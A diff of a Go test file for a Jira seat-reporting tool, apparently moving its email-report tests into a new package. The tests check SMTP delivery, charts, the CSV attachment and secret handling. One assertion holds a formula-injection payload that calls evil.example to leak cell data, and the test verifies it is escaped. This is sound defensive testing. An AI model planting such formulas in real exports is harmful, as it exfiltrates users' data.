@@ -1,8 +1,7 @@
-package report_test
+package email_test
 
 import (
 	"bytes"
-	"context"
 	"encoding/base64"
 	"encoding/csv"
 	"errors"
@@ -23,10 +22,12 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/seatwarden/seatwarden/jira"
-	"github.com/seatwarden/seatwarden/jira/cloud"
 	"github.com/seatwarden/seatwarden/jira/datacenter"
 	"github.com/seatwarden/seatwarden/jira/jiratest"
 	"github.com/seatwarden/seatwarden/report"
+	"github.com/seatwarden/seatwarden/report/email"
+	"github.com/seatwarden/seatwarden/report/insights"
+	"github.com/seatwarden/seatwarden/report/internal/reporttest"
 )
 
 // smtpServer is an in-process SMTP server (emersion/go-smtp) on
@@ -98,14 +99,14 @@ func (ss *smtpSession) Data(r io.Reader) error {
 func (ss *smtpSession) Reset()        {}
 func (ss *smtpSession) Logout() error { return nil }
 
-func (s *smtpServer) sink(password jira.Secret, groups report.GroupMembers, to ...string) *report.Email {
+func (s *smtpServer) sink(password jira.Secret, groups email.GroupMembers, to ...string) *email.Sink {
 	host, port, _ := net.SplitHostPort(s.addr)
 	var p int
 	for _, c := range port {
 		p = p*10 + int(c-'0')
 	}
-	return &report.Email{From: "seatwarden@example.com", To: to, Groups: groups,
-		SMTP: report.SMTP{Host: host, Port: p, Username: s.user, Password: password, TLS: report.NoTLS, InsecureAuth: true, Timeout: 5 * time.Second}}
+	return &email.Sink{From: "seatwarden@example.com", To: to, Groups: groups,
+		SMTP: email.SMTP{Host: host, Port: p, Username: s.user, Password: password, TLS: email.NoTLS, InsecureAuth: true, Timeout: 5 * time.Second}}
 }
 
 // part is one leaf of a MIME message.
@@ -170,7 +171,8 @@ func TestEmailToGroupOverSMTP(t *testing.T) {
 
 	srv := startSMTP(t, "reports", "s3cret-pw")
 	sink := srv.sink("s3cret-pw", client, "it-managers", "cfo@example.com", "noah@example.com")
-	r := storedReport(t, true)
+	r, err := reporttest.StoredReport(ctx, t.TempDir(), true)
+	require.NoError(t, err)
 	require.NoError(t, report.NewFanout(nil, sink).Write(ctx, r))
 
 	srv.mu.Lock()
@@ -206,7 +208,7 @@ func TestEmailToGroupOverSMTP(t *testing.T) {
 	require.NotNil(t, html)
 	assert.Contains(t, string(html), "now 811 recently, 363 not for a while, 56 never logged in")
 	assert.NotContains(t, string(html), "<svg", "mail clients get PNGs")
-	for _, c := range r.Insights.Charts {
+	for _, c := range r.Insights.(*insights.Insights).Charts {
 		assert.Contains(t, string(html), `src="cid:`+c.ID+`.png"`)
 		require.Contains(t, pngs, c.ID+".png")
 		assert.Equal(t, c.PNG, pngs[c.ID+".png"])
@@ -215,14 +217,14 @@ func TestEmailToGroupOverSMTP(t *testing.T) {
 	rows, err := csv.NewReader(bytes.NewReader(csvBody)).ReadAll()
 	require.NoError(t, err)
 	require.Len(t, rows, len(r.Results)+1)
-	assert.Equal(t, report.OutcomeColumns, rows[0])
+	assert.Equal(t, report.OutcomeColumns(), rows[0])
 	assert.Equal(t, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", rows[3][7], "the attachment is spreadsheet-safe")
 }
 
 func TestEmailFailuresKeepTheSecret(t *testing.T) {
 	t.Parallel()
 	ctx := t.Context()
-	r, _ := fixture()
+	r, _ := reporttest.Fixture()
 	srv := startSMTP(t, "reports", "right-password")
 
 	wrong := srv.sink("hunter2-wrong", nil, "cfo@example.com")
@@ -235,48 +237,13 @@ func TestEmailFailuresKeepTheSecret(t *testing.T) {
 	assert.ErrorContains(t, noTLS.Write(ctx, r), "refusing to send a password without TLS")
 
 	group := srv.sink("right-password", nil, "it-managers")
-	assert.ErrorContains(t, group.Write(ctx, r), `email to group "it-managers" needs a GroupMembers`)
+	assert.ErrorContains(t, group.Write(ctx, r), `to group "it-managers" needs a GroupMembers`)
 
 	fake := jiratest.NewServer(t)
 	require.NoError(t, fake.AddGroup("empty"))
 	client, err := datacenter.New(fake.URL, datacenter.BasicAuth(jiratest.DefaultDCUser, jira.Secret(jiratest.DefaultDCPassword)))
 	require.NoError(t, err)
-	assert.ErrorIs(t, srv.sink("right-password", client, "empty").Write(ctx, r), report.ErrNoRecipients)
+	assert.ErrorIs(t, srv.sink("right-password", client, "empty").Write(ctx, r), email.ErrNoRecipients)
 }
 
 func newQP(b []byte) io.Reader { return quotedprintable.NewReader(bytes.NewReader(b)) }
-
-// TestCommentOnTheFake comments a run on its approval issue through the
-// real clients, which satisfy Commenter, on both flavours of the fake.
-func TestCommentOnTheFake(t *testing.T) {
-	t.Parallel()
-	org := jiratest.GenerateOrg(jiratest.OrgOptions{Seed: 1, Users: 20})
-	for _, f := range []jira.Flavor{jira.DataCenter, jira.Cloud} {
-		t.Run(f.String(), func(t *testing.T) {
-			t.Parallel()
-			ctx := t.Context()
-			fake := jiratest.NewServer(t, jiratest.WithFlavor(f), jiratest.WithOrg(org))
-			var c interface {
-				report.Commenter
-				CreateIssue(context.Context, jira.IssueRequest) (jira.Issue, error)
-			}
-			var err error
-			if f == jira.DataCenter {
-				c, err = datacenter.New(fake.URL, datacenter.BasicAuth(jiratest.DefaultDCUser, jira.Secret(jiratest.DefaultDCPassword)))
-			} else {
-				c, err = cloud.New(fake.URL, cloud.APITokenAuth(jiratest.DefaultCloudEmail, jira.Secret(jiratest.DefaultCloudToken)))
-			}
-			require.NoError(t, err)
-			is, err := c.CreateIssue(ctx, jira.IssueRequest{Project: org.Projects[0].Key, IssueType: "Task", Summary: "Approve plan plan-1"})
-			require.NoError(t, err)
-			r, _ := fixture()
-			r.ApprovalIssue = is.Key
-			require.NoError(t, report.NewFanout(nil, report.NewComment(c)).Write(ctx, r))
-			got, ok := fake.Issue(is.Key)
-			require.True(t, ok)
-			require.Len(t, got.Comments, 1)
-			assert.Contains(t, string(got.Comments[0]), "Run of contractors, inactive-90-days: 2 applied, 1 stale, 1 failed")
-			assert.Contains(t, string(got.Comments[0]), "read-only directory")
-		})
-	}
-}
